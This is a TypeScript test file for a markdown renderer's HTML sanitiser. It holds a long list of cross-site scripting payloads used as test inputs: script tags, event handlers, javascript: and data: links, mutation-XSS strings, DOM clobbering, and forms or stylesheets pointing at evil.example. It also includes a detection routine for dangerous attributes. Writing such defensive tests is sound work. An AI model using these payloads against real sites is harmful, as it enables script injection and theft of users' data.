import { load } from "cheerio";
import { describe, expect, test } from "vitest";
import { articleHtmlSchema } from "../html/article-html-schema";
import { renderMarkdown } from "./render-markdown";

/** Each says what it tries; `keeps` is text that must survive the defence. */
const attacks: [name: string, markdown: string, keeps?: string][] = [
  ["script block", "<script>alert(1)</script>\n\nhello", "hello"],
  ["script inside a sentence", "hello <script>alert(1)</script> world", "hello"],
  ["script in odd case", "<ScRiPt src=//evil.example></sCrIpT>\n\nhello", "hello"],
  ["script that never closes", "hello\n\n<script>alert(1)", "hello"],
  ["script split by a nested one", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script with a slash", "<script/x>alert(1)</script/x>"],
  ["image error handler", "<img src=x onerror=alert(1)>"],
  ["image error handler without quotes or spaces", "<img/src=x/onerror=alert(1)>"],
  ["handler in upper case", '<p ONCLICK="alert(1)">hello</p>', "hello"],
  ["handler on details", "<details open ontoggle=alert(1)><summary>more</summary>hello</details>", "hello"],
  ["autofocus handler", "<input autofocus onfocus=alert(1)>"],
  ["body load handler", "<body onload=alert(1)>hello</body>", "hello"],
  ["marquee handler", "<marquee onstart=alert(1)>hello</marquee>", "hello"],
  ["video source handler", "<video><source onerror=alert(1)></video>"],
  ["audio", "<audio src=x onerror=alert(1)>"],
  ["style element", "<style>@import 'https://evil.example/x.css'</style>\n\nhello", "hello"],
  ["style attribute", '<p style="background:url(javascript:alert(1))">hello</p>', "hello"],
  ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe with srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["object", '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ["embed", '<embed src="javascript:alert(1)">'],
  ["base", '<base href="https://evil.example/">\n\n[hello](page)', "hello"],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["form that posts away", '<form action="https://evil.example"><input name=password></form>'],
  ["button with formaction", '<button formaction="javascript:alert(1)">hello</button>'],
  ["isindex", '<isindex type=image src=1 onerror="alert(1)">'],
  ["javascript link", "[hello](javascript:alert(1))", "hello"],
  ["javascript link in odd case", "[hello](JaVaScRiPt:alert(1))", "hello"],
  ["javascript link with a tab entity", "[hello](java&Tab;script:alert(1))", "hello"],
  ["javascript link with a newline entity", "[hello](java&NewLine;script:alert(1))", "hello"],
  ["javascript link with a control character", "[hello](&#1;javascript:alert(1))", "hello"],
  ["javascript link with an entity colon", "[hello](javascript&colon;alert(1))", "hello"],
  ["javascript link with a numeric colon", "[hello](javascript&#58;alert(1))", "hello"],
  ["javascript link in angle brackets", "[hello](<javascript:alert(1)>)", "hello"],
  ["javascript link with spaces", "[hello](<  javascript:alert(1)>)", "hello"],
  ["javascript autolink", "<javascript:alert(1)>"],
  ["javascript in a reference definition", "[hello][x]\n\n[x]: javascript:alert(1)", "hello"],
  ["javascript in a collapsed reference", "[hello][]\n\n[hello]: <javascript:alert(1)>", "hello"],
  ["data in a reference definition", "![hello][x]\n\n[x]: data:text/html;base64,PHN2Zz4=", "hello"],
  [
    "quote that breaks out of a title",
    `[hello](https://a.example "x\\" onmouseover=alert(1) y=\\"")`,
    "hello",
  ],
  ["quote that breaks out of an address", `[hello](https://a.example/"onmouseover="alert(1))`, "hello"],
  ["quote that breaks out of an alt", `![x" onerror="alert(1)](https://a.example/x.png)`],
  ["vbscript link", "[hello](vbscript:msgbox(1))", "hello"],
  ["data link", "[hello](data:text/html,<script>alert(1)</script>)", "hello"],
  ["blob link", "[hello](blob:https://a.example/1)", "hello"],
  ["file link", "[hello](file:///etc/passwd)", "hello"],
  ["data image", "![hello](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "hello"],
  ["javascript image", "![hello](javascript:alert(1))", "hello"],
  ["raw javascript link", '<a href="javascript:alert(1)">hello</a>', "hello"],
  ["raw link with a tab", '<a href="jav\tascript:alert(1)">hello</a>', "hello"],
  ["raw link with entities", '<a href="&#106;avascript:alert(1)">hello</a>', "hello"],
  ["raw link with ping", '<a href="https://a.example" ping="https://evil.example">hello</a>', "hello"],
  ["window target", '<a href="https://a.example" target="_top">hello</a>', "hello"],
  ["xlink", '<svg><a xlink:href="javascript:alert(1)"><text>hello</text></a></svg>'],
  ["svg load handler", "<svg onload=alert(1)>"],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["svg animation", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"],
  ["svg use", '<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"/></svg>'],
  [
    "math action",
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  [
    "mutation through math and style",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ["mutation through noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["mutation through svg and p", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["mutation through textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ["mutation through xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ["mutation through a template", "<template><script>alert(1)</script></template>"],
  [
    "mutation through nested forms",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  ],
  [
    "mutation through select",
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=alert(1)>">',
  ],
  ["comment that ends early", "<!--><img src=x onerror=alert(1)>-->"],
  ["comment in a comment", "<!-- --!><img src=x onerror=alert(1)> -->"],
  ["conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  ["processing instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'],
  ["declaration", '<!ENTITY xxe SYSTEM "file:///etc/passwd">'],
  ["html inside a code fence", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"],
  ["language of a code fence", '```js" onmouseover="alert(1)\nx\n```', "x"],
  ["html inside inline code", "`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"],
  ["html in a table cell", "| a |\n| - |\n| <img src=x onerror=alert(1)> hello |", "hello"],
  ["html in a footnote", "hello[^1]\n\n[^1]: <script>alert(1)</script> note", "note"],
  ["html in a heading", "## hello <img src=x onerror=alert(1)>", "hello"],
  [
    "markup in a footnote name",
    'hello[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: n',
    "hello",
  ],
  ["clobbering by id", '<p id="getElementById">hello</p>', "hello"],
  ["clobbering by name", '<img name="cookie" src="https://a.example/x.png">'],
  ["clobbering by nested names", "<form id=config><input name=url value=evil></form>"],
  ["clobbering by a link's id", '<a id="config" href="https://a.example">hello</a>', "hello"],
  ["disguise by class", '<div class="fixed inset-0 z-50">hello</div>', "hello"],
  ["widget by data attribute", '<div data-action="delete" is="x-y">hello</div>', "hello"],
  ["slot and part", '<p slot="title" part="x">hello</p>', "hello"],
  ["NUL in a tag", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"],
  ["image candidates", '<img src="https://a.example/x.png" srcset="javascript:alert(1) 2x">'],
  [
    "background attribute",
    '<table background="javascript:alert(1)"><tr><td>hello</td></tr></table>',
    "hello",
  ],
  ["plaintext", "<plaintext>\n\nhello"],
];

describe("HTML that an attacker put into an article", () => {
  test.each(attacks)("is harmless: %s", (_name, markdown, keeps = "") => {
    const { html } = renderMarkdown(markdown);
    expect(harmIn(html)).toEqual([]);
    expect(load(html, null, false).text()).toContain(keeps);
  });

  test.each(attacks)("stays harmless when a browser parses and prints it again: %s", (_name, markdown) => {
    const again = load(renderMarkdown(markdown).html, null, false).html();
    expect(harmIn(again)).toEqual([]);
    expect(harmIn(load(again, null, false).html())).toEqual([]);
  });

  test.each(["<textarea>", "<xmp>", "<title>", "<iframe>", "<noframes>", "<style>", "<svg>", "<select>"])(
    "cannot hide the article before it: %s",
    (opener) => {
      const { html, text } = renderMarkdown(`before\n\n<p>${opener}</p>\n\nafter`);
      expect(harmIn(html)).toEqual([]);
      expect(text).toContain("before");
    },
  );

  test("is recognised by this test's own check when it is not filtered", () => {
    for (const html of [
      "<script></script>",
      '<p onclick="x">',
      '<p id="x">',
      '<p class="x">',
      '<a href="javascript:x">',
      '<div data-x="1">',
    ]) {
      expect(harmIn(html)).toHaveLength(1);
    }
  });
});

const allowedTags = new Set(articleHtmlSchema.tagNames);
const allowedClass =
  /^(?:language-[\w+#.-]+|footnotes|sr-only|data-footnote-backref|(?:contains-)?task-list(?:-item)?)?$/;
const dangerousName =
  /^(?:on|style|srcdoc|srcset|target|name|ping|action|form|slot|part|is$|xlink|background)/;

/** Judges the parsed tree instead of the characters, because escaped text may contain `<script>`. */
function harmIn(html: string): string[] {
  const page = load(html, null, false);
  return page("*")
    .toArray()
    .flatMap((element) => {
      const tag = page(element).prop("tagName")?.toLowerCase() ?? "";
      const attributes = Object.entries(page(element).attr() ?? {});
      const bad = attributes
        .filter(([name, value]) => isHarmful(name, value))
        .map(([name]) => `${tag}[${name}]`);
      return allowedTags.has(tag) ? bad : [tag, ...bad];
    });
}

function isHarmful(name: string, value: string): boolean {
  if (dangerousName.test(name)) return true;
  if (name === "id") return !/^(?:section-|user-content-fn|footnote-label$)/.test(value);
  if (name === "class") return !allowedClass.test(value);
  if (name.startsWith("data-")) return !name.startsWith("data-footnote");
  if (!["href", "src", "cite"].includes(name)) return false;
  return !["https:", "http:", "mailto:", "tel:"].includes(new URL(value, "https://base.example").protocol);
}
